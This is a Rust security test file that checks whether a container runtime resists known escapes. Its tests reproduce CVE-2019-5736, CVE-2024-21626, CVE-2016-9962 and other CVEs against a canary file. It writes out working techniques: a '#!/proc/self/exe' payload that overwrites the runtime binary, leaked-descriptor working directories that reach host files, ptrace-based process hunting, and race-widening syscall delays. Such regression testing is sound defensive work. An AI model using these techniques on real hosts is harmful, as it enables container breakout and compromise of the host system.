//! The runtime's own process, binary and descriptors, as hostile processes in the container see them.

use crate::harness::{SECONDS_5, script, wait_for};
use crate::race::hunter;
use crate::requires;
use crate::scene::{Control::*, Scene, attack};
use serde_json::json;
use std::ffi::OsString;
use std::fs;
use std::os::unix::fs::MetadataExt;
use std::path::Path;
use std::time::Duration;

/// A container that runs the hunter as its first process, with the right to look into others.
fn hunting(s: &Scene, args: &[&str]) -> bool {
    fs::copy(hunter(), s.t.rootfs.join("bin/hunter")).unwrap();
    s.edit(|c| {
        for set in ["bounding", "effective", "permitted"] {
            c["process"]["capabilities"][set].as_array_mut().unwrap().push(json!("CAP_SYS_PTRACE"));
        }
        let mut all = vec!["hunter"];
        all.extend(args);
        c["process"]["args"] = json!(all);
    });
    s.t.bundle_command("run", &["--detach"]).go().code == Some(0)
}

/// Makes the runtime slow at these calls, as many as it does.
fn slowed(calls: &str, milliseconds: u32) -> Vec<OsString> {
    let inject = format!("inject={calls}:delay_enter={}", milliseconds * 1000);
    ["strace", "-f", "-o", "/dev/null", "-e", &format!("trace={calls}"), "-e", &inject]
        .map(OsString::from)
        .to_vec()
}

#[test]
fn cve_2016_9962_exec_seen_before_it_is_confined() {
    requires!(program "strace");
    attack("CVE-2016-9962", "exec is looked into before it is confined", &[Weak("relay")], |s| {
        let victim = s.canary.victim().display().to_string();
        assert!(hunting(s, &["files", &victim, "/hunted"]));
        s.through(&slowed("setns,fchdir,setsid,prctl,capset,setresuid,setgroups,chdir,execve", 10));
        for extra in [&["true"][..], &["--user", "1000", "--cwd", "/tmp", "true"]] {
            let mut args = vec!["exec"];
            args.extend(&extra[..extra.len() - 1]);
            args.extend([s.t.id.as_str(), extra[extra.len() - 1]]);
            s.t.rt(&args).go().ok();
        }
        s.through(&[]);
        let hunted = fs::read_to_string(s.t.rootfs.join("hunted")).ok()?;
        Some(format!("a host's file was read as {}", hunted.lines().next()?))
    });
}

#[test]
fn cve_2019_5736_the_runtimes_file_overwritten() {
    requires!(program "strace");
    attack(
        "CVE-2019-5736",
        "the runtime's file is overwritten through /proc/PID/exe",
        &[Runc, Weak("exe")],
        |s| {
            let copy = s.copy_of_runtime();
            let before = fs::read(&copy).unwrap();
            script(&s.t.rootfs.join("bin/evil"), "#!/proc/self/exe\n");
            assert!(hunting(s, &["exe", "/hunted"]));
            // What the container makes of the runtime lives long enough to be seen.
            let calls = "exit_group,execve";
            for args in [&["/bin/evil"][..], &["/proc/self/exe"], &["true"]] {
                s.through(&slowed(calls, 100));
                let mut all = vec!["exec", s.t.id.as_str()];
                all.extend(args);
                s.t.rt(&all).go();
                s.through(&[]);
            }
            // The file can be written only when nothing executes it any more.
            let end = std::time::Instant::now() + Duration::from_millis(500);
            while std::time::Instant::now() < end && fs::read(&copy).unwrap() == before {
                std::thread::sleep(Duration::from_millis(20));
            }
            (fs::read(&copy).unwrap() != before)
                .then(|| "the runtime's file on the host was overwritten".to_owned())
        },
    );
}

/// The same file of the page cache is enough for a kernel bug such as this (also CVE-2026-31431).
#[test]
fn cve_2022_0847_page_cache_of_the_runtime() {
    attack(
        "CVE-2022-0847",
        "the runtime's file shares the page cache with what runs in the container (CVE-2026-31431)",
        &[Weak("exe")],
        |s| {
            let host = fs::metadata(s.copy_of_runtime()).unwrap();
            s.t.sh("true").create();
            let exe = fs::metadata(format!("/proc/{}/exe", s.t.pid())).unwrap();
            if (exe.dev(), exe.ino()) == (host.dev(), host.ino()) {
                return Some("init executes the host's file".to_owned());
            }
            // What is mapped is reached by /proc/PID/map_files, and by a bug that needs no name.
            let maps = fs::read_to_string(format!("/proc/{}/maps", s.t.pid())).unwrap();
            let inode = host.ino().to_string();
            let mapped = maps.lines().find(|line| line.split_ascii_whitespace().nth(4) == Some(&inode));
            mapped.map(|line| format!("init has the host's file mapped: {line}"))
        },
    );
}

/// Reads the canary from the working directory upwards.
fn cat_upwards(s: &Scene) -> String {
    let victim = s.canary.victim();
    format!(
        "for d in . .. ../.. ../../.. ../../../.. ../../../../..; do cat $d{} 2>/dev/null; done; true",
        victim.display()
    )
}

#[test]
fn cve_2024_21626_working_directory_on_a_leaked_descriptor() {
    attack(
        "CVE-2024-21626",
        "the working directory or the program is on a leaked descriptor",
        &[Runc, Weak("cwd")],
        |s| {
            let script = cat_upwards(s);
            let leaked = "exec 3</ 4</ 5</sys/fs/cgroup 6</ 7</ 8</ 9</; exec \"$@\"";
            std::os::unix::fs::symlink("/proc/self/fd/7", s.t.rootfs.join("link")).unwrap();
            let mut directories: Vec<String> = (3..=20).map(|n| format!("/proc/self/fd/{n}")).collect();
            directories.extend((3..=9).map(|n| format!("/proc/thread-self/fd/{n}/..")));
            directories.extend((5..=9).map(|n| format!("/proc/1/fd/{n}")));
            directories.extend(
                ["/proc/self/cwd", "/proc/self/root/../..", "/proc/1/cwd", "/link", "/link/../.."]
                    .map(str::to_owned),
            );
            let reached = |out: crate::harness::Out, how: &str| {
                out.stdout().contains("canary victim").then(|| format!("the host's file was read {how}"))
            };
            for directory in &directories {
                s.t.sh(&script);
                s.edit(|c| c["process"]["cwd"] = json!(directory));
                let out = s.t.bundle_command("run", &[]).through(leaked).go();
                if let Some(how) = reached(out, &format!("from the directory {directory}")) {
                    return Some(how);
                }
            }
            s.edit(|c| c["process"]["cwd"] = json!("/"));
            assert!(s.detached("exec sleep 1000"));
            for directory in &directories {
                let args = ["exec", "--cwd", directory, &s.t.id, "sh", "-c", &script];
                if let Some(how) =
                    reached(s.t.rt(&args).through(leaked).go(), &format!("by exec --cwd {directory}"))
                {
                    return Some(how);
                }
            }
            for n in 3..=9 {
                let program = format!("/proc/self/fd/{n}/bin/cat");
                let victim = s.canary.victim();
                let args = ["exec", &s.t.id, &program, &format!("/proc/self/fd/{n}{}", victim.display())];
                if let Some(how) =
                    reached(s.t.rt(&args).through(leaked).go(), &format!("by executing {program}"))
                {
                    return Some(how);
                }
            }
            None
        },
    );
}

/// The bootstrap message of runc had lengths of 16 bits: a long configuration became other namespaces.
#[test]
fn cve_2021_43784_long_configuration() {
    attack("CVE-2021-43784", "a configuration too long for the runtime's messages", &[Weak("length")], |s| {
        let source = s.t.dir.join("source");
        fs::create_dir(&source).unwrap();
        let long = format!("{}{}", source.display(), "/.".repeat(1700));
        for n in 0..40 {
            s.bind(Path::new(&long), &format!("/m/{n}"));
        }
        s.edit(|c| c["annotations"] = json!({ "long": "x".repeat(70_000) }));
        let kinds = ["mnt", "net", "pid", "uts", "ipc", "cgroup"];
        let out = s.run(&format!("for n in {}; do readlink /proc/self/ns/$n; done", kinds.join(" ")));
        let inside = out.ok().stdout();
        kinds.into_iter().find_map(|kind| {
            let own = fs::read_link(format!("/proc/self/ns/{kind}")).unwrap();
            inside
                .contains(own.to_str().unwrap())
                .then(|| format!("the container has the host's {kind} namespace"))
        })
    });
}

/// /etc/passwd of the image is a fifo, which nobody writes to: `exec` of the runtime must not wait for one.
#[test]
fn residual_exec_reads_the_images_files() {
    attack("residual: exec waits for the image", "exec reads a fifo of the image", &[Weak("passwd")], |s| {
        assert!(s.detached("rm /etc/passwd; mkfifo /etc/passwd; exec sleep 1000"));
        wait_for("the fifo", SECONDS_5, || {
            let m = fs::metadata(s.t.rootfs.join("etc/passwd")).ok()?;
            std::os::unix::fs::FileTypeExt::is_fifo(&m.file_type()).then_some(())
        });
        // HOME is looked up there.
        let mut exec = s.t.rt(&["exec", &s.t.id, "true"]).spawn();
        let ended = crate::harness::ends_within(&exec.child, Duration::from_secs(3));
        if !ended {
            exec.child.kill().unwrap();
        }
        exec.child.wait().unwrap();
        (!ended).then(|| "exec hangs as long as the image likes".to_owned())
    });
}

/// The first process has put another root in the place of the container's, and moved the old one below it. `exec` has to
/// look everything up behind that, and what the host has open must not show the way back.
#[test]
fn residual_init_has_another_root() {
    attack(
        "residual: init has another root",
        "exec into a container whose init has pivoted to a root of its own",
        &[Weak("execroot")],
        |s| {
            s.edit(|c| {
                for set in ["bounding", "effective", "permitted"] {
                    c["process"]["capabilities"][set].as_array_mut().unwrap().push(json!("CAP_SYS_ADMIN"));
                }
            });
            let pivot = "b=/bin/busybox; $b mkdir -p /mnt; $b mount -t tmpfs new /mnt && cd /mnt && \
                         $b mkdir bin proc dev old && $b cp $b bin/ && for n in sh cat sleep; do \
                         $b ln -s busybox bin/$n; done && $b mount -o move /proc proc && \
                         $b mount -o move /dev dev && \
                         $b pivot_root . old && echo > /pivoted && exec /bin/sleep 1000";
            assert!(s.detached(pivot));
            let root = std::path::PathBuf::from(format!("/proc/{}/root/pivoted", s.t.pid()));
            wait_for("the new root", SECONDS_5, || root.exists().then_some(()));
            let script = cat_upwards(s);
            let leaked = "exec 3</ 4</ 5</sys/fs/cgroup 6</ 7</ 8</; exec \"$@\"";
            let mut directories: Vec<String> = (3..=20).map(|n| format!("/proc/self/fd/{n}")).collect();
            directories
                .extend(["/", "/old", "/old/../..", "/proc/1/root/..", "/proc/1/cwd/.."].map(str::to_owned));
            for directory in directories {
                let args = ["exec", "--cwd", &directory, &s.t.id, "sh", "-c", &script];
                if s.t.rt(&args).through(leaked).go().stdout().contains("canary victim") {
                    return Some(format!("the host's file was read from {directory}"));
                }
            }
            // Where it is allowed to be, it is in the new root and nowhere else.
            let seen = s.t.rt(&["exec", &s.t.id, "cat", "/pivoted"]).go();
            (seen.code != Some(0)).then(|| format!("exec is in another root: {}", seen.stderr()))
        },
    );
}
